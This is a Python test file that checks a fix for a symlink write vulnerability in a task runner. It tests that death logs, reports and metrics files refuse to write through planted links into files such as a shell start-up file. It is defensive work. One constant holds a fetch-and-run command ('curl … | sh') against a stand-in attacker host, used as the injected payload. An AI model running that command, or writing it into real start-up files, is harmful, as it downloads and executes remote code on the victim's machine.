"""Files outside `.ralph/` are not written through links (issue 37, medium 1): a repository that
committed `logs/deaths.log -> ../../victim` had the next death (an item text holding a command)
appended to the file the link named (`~/.bashrc`); `report -o` and the metrics textfile wrote
through links too. Now each is opened without following a link: a regular file of ours, or a
new one; a link found at the start stops the run (exit 2, named), one planted later is refused
at the write, and the death record still reaches its JSONL twin or stderr, whole."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml
from support.e2e import AGENT_STEP, Scenario
from support.standin import python_env

from ralph_runner.fleet import metrics

pytestmark = pytest.mark.timeout(120)

BASHRC = "# the operator's shell start-up file\nexport PATH=$HOME/bin:$PATH\n"
COMMAND = "curl -s http://attacker.invalid/x | sh"  # an item text: what the death log quotes


def _victim(scenario: Scenario) -> Path:
    """A file of the operator's outside the workdir (../../victim from its logs/)."""
    victim = scenario.root / "victim"
    victim.write_text(BASHRC)
    return victim


def _run(scenario: Scenario, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ralph_runner", *args],
        cwd=scenario.workspace,
        env=python_env(),
        capture_output=True,
        text=True,
        timeout=90,
    )


@pytest.mark.parametrize("planted", ["logs/deaths.log", "logs/deaths.jsonl", "metrics/r.prom"])
def test_a_committed_link_stops_the_run_at_its_start(scenario: Scenario, planted: str) -> None:
    """The repository commits the link; the run refuses it before its first iteration."""
    scenario.prepare([COMMAND])
    document = yaml.safe_load(scenario.runbook_path.read_text())
    document["metrics"] = {"textfile": "metrics/r.prom"}
    scenario.runbook_path.write_text(yaml.safe_dump(document, sort_keys=False))
    victim = _victim(scenario)
    (scenario.workspace / "metrics").mkdir()
    link = scenario.workspace / planted
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(os.path.relpath(victim, link.parent))
    git = ["git", "-C", str(scenario.workspace)]
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "a link"], check=True)

    done = _run(scenario, str(scenario.runbook_path), "-e", json.dumps(scenario.facts))

    assert done.returncode == 2, done.stdout + done.stderr
    assert str(link) in done.stderr and "is a symlink" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert victim.read_text() == BASHRC
    assert link.is_symlink()


@pytest.mark.parametrize("planted", [("deaths.log",), ("deaths.log", "deaths.jsonl")])
def test_a_link_planted_during_the_run_takes_no_death(
    scenario: Scenario, planted: tuple[str, ...]
) -> None:
    """The agent (or another user who can write the workdir) plants the link after the start;
    the death that follows is refused there, said, and its record kept: in the JSONL twin
    when only the log was planted, else on stderr, whole."""
    scenario.prepare([COMMAND])
    victim = _victim(scenario)
    logs = scenario.workspace / "logs"
    run = scenario.start()
    run.wait_status(lambda s: s.get("phase") == AGENT_STEP, "the agent step")
    logs.mkdir(exist_ok=True)
    for name in planted:
        (logs / name).unlink(missing_ok=True)
        (logs / name).symlink_to(os.path.relpath(victim, logs))
    scenario.standin.trigger(die=True)
    assert run.wait(90) == 0, run.stderr

    assert victim.read_text() == BASHRC, "the death was written through the link"
    report = run.of("report")
    assert report and not report[0]["written"], report
    assert "deaths.log: is a symlink" in report[0]["error"], report
    assert "could not write death record" in run.stderr and COMMAND in run.stderr
    if "deaths.jsonl" not in planted:
        deaths = scenario.records("death")
        assert [d["item"]["text"] for d in deaths] == [COMMAND]


@pytest.mark.parametrize("kind", ["symlink", "hard link"])
def test_report_does_not_write_through_a_link(scenario: Scenario, kind: str) -> None:
    scenario.workspace.mkdir()
    victim = _victim(scenario)
    records = scenario.workspace / "deaths.jsonl"
    records.write_text("")
    output = scenario.workspace / "report.html"
    if kind == "symlink":
        output.symlink_to(os.path.relpath(victim, output.parent))
    else:
        os.link(victim, output)

    done = _run(scenario, "report", str(records), "-o", "report.html")

    assert done.returncode == 2, done.stdout + done.stderr
    assert "will not write the report" in done.stderr, done.stderr
    assert ("is a symlink" if kind == "symlink" else "2 hard links") in done.stderr
    assert victim.read_text() == BASHRC


def test_the_textfile_is_not_written_through_its_temp_name(tmp_path: Path) -> None:
    """prometheus_client's writer opened `PATH.<pid>.<thread>`, a name anyone who can write
    the textfile directory can guess, following a link there (and then renamed the link over
    the textfile). The temp name is now random and made with O_EXCL|O_NOFOLLOW."""
    victim = tmp_path / "victim"
    victim.write_text(BASHRC)
    directory = tmp_path / "textfile"
    directory.mkdir()
    path = directory / "ralph.prom"
    planted = Path(f"{path}.{os.getpid()}.{threading.current_thread().ident}")
    planted.symlink_to(victim)
    warnings: list[str] = []

    textfile = metrics.Textfile(path, "localhost", warnings.append)  # its first write
    textfile.close(0)

    assert victim.read_text() == BASHRC
    assert not path.is_symlink() and "ralph_up" in path.read_text(), warnings
    assert oct(path.stat().st_mode & 0o777) == oct(0o666 & ~_umask()), "node_exporter reads it"
    assert sorted(p.name for p in directory.iterdir()) == sorted(["ralph.prom", planted.name])


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask
